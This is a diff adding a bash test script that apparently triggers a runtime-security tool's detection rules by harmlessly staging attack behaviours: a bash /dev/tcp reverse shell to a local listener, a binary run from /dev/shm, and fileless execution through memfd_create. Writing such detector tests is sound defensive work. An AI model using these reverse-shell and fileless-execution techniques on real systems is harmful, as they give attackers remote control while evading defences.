@@ -1,0 +1,35 @@
+#!/bin/bash
+# Attack behaviour for the live test (kestrel-rt/tests/live.rs): each scenario is what a
+# built-in rule looks for, done harmlessly, leaving nothing behind. Needs bash and python3.
+set -u
+DIR=$(mktemp -d /tmp/kestrel-live.XXXXXX)
+trap 'rm -rf "$DIR"' EXIT
+# A local, non-loopback address, so the connection is not to 127.0.0.0/8.
+IP=${KESTREL_SCENARIO_IP:-$(hostname -I | awk '{print $1}')}
+PORT=${KESTREL_SCENARIO_PORT:-47444}
+
+# 1. Reverse shell: bash connects out, then starts an interactive shell reading the connection.
+python3 - "$PORT" "$DIR/ready" <<'PY' &
+import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("0.0.0.0", int(sys.argv[1]))); s.listen(1); s.settimeout(20)
+open(sys.argv[2], "w").close()
+c, _ = s.accept(); c.sendall(b"exit\n"); c.close()
+PY
+LISTENER=$!
+for _ in $(seq 100); do [ -e "$DIR/ready" ] && break; sleep 0.05; done
+bash -c "exec 3<>/dev/tcp/$IP/$PORT; bash -i <&3 >&3 2>&3" 2>/dev/null
+wait $LISTENER
+
+# 2. A program run from /dev/shm.
+cp /bin/true /dev/shm/kestrel-live-true && /dev/shm/kestrel-live-true
+rm -f /dev/shm/kestrel-live-true
+
+# 3. A program run from an anonymous memory file (memfd_create, then exec of /proc/self/fd/N).
+python3 -c '
+import os
+fd = os.memfd_create("kestrel-live", 0)
+os.write(fd, open("/bin/true", "rb").read())
+os.execv("/proc/self/fd/%d" % fd, ["kestrel-live-memfd"])
+'
+exit 0
